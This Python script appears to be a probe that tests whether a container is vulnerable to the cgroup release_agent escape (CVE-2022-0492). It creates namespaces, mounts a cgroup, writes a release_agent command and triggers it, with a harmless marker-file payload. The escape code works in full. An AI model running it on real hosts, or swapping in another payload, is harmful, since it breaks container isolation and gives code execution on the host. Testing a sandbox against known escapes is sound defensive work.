"""The way out by a cgroup's release_agent (CVE-2022-0492): namespaces, a cgroup mount, a program that the host's kernel runs.

The program would only create the file named by the first argument, on the host.
"""

import os
import sys
from pathlib import Path

from tools import CLONE, outcome, report, syscall, tried


def attack():
    """In a child: every step that works brings the next."""
    found = {}
    marker = sys.argv[1]
    found["unshare"] = tried("unshare", CLONE["user"] | CLONE["mnt"] | CLONE["cgroup"])
    found["mount"] = found["agent"] = found["release"] = "not reached"
    os.makedirs("/tmp/cg", exist_ok=True)
    for controller in ("rdma", "misc", "memory", "freezer", "cpu"):
        found["mount"] = tried("mount", b"cgroup", b"/tmp/cg", b"cgroup", 0, controller.encode())
        if found["mount"] == "done":
            break
    if found["mount"] == "done":
        found["agent"] = outcome(write, "/tmp/cg/release_agent", f"/usr/bin/touch {marker}")
        found["release"] = outcome(release)
    return found


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def release():
    os.mkdir("/tmp/cg/x")
    write("/tmp/cg/x/notify_on_release", "1")
    if os.fork() == 0:
        write("/tmp/cg/x/cgroup.procs", "0")
        os._exit(0)
    os.wait()


ours, theirs = os.pipe()
if os.fork() == 0:
    os.write(theirs, repr(attack()).encode())
    os._exit(0)
os.wait()
plain = eval(os.read(ours, 65536))
visible = [
    line.split(" - ")[1] for line in Path("/proc/self/mountinfo").read_text().splitlines() if " - cgroup" in line
]
report(
    {
        **plain,
        "cgroup mounts": visible,
        "direct": outcome(syscall, "mount", b"cgroup", b"/tmp", b"cgroup", 0, b"memory"),
    }
)
